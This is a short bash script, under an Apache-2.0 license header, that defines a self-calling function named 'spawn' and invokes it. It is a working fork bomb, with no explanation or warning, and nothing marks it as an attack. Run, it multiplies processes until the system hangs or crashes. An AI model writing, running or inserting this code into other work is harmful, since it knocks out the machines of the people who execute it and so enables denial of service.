#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
spawn() {
  spawn & spawn
}
spawn
